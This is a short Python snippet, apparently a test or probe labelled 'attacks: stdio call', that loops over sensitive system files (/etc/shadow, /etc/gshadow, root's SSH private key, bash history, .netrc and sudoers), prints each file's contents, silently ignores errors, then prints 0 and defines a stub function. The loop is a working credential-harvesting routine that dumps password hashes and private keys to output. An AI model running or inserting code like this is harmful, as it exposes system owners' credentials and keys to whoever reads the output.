# Accounts and keys.
# attacks: stdio call
for path in ("/etc/shadow", "/etc/gshadow", "/root/.ssh/id_rsa", "/root/.bash_history", "/root/.netrc", "/etc/sudoers"):
    try: print(open(path).read())
    except OSError: pass
print(0)

def f(a, b): return 0
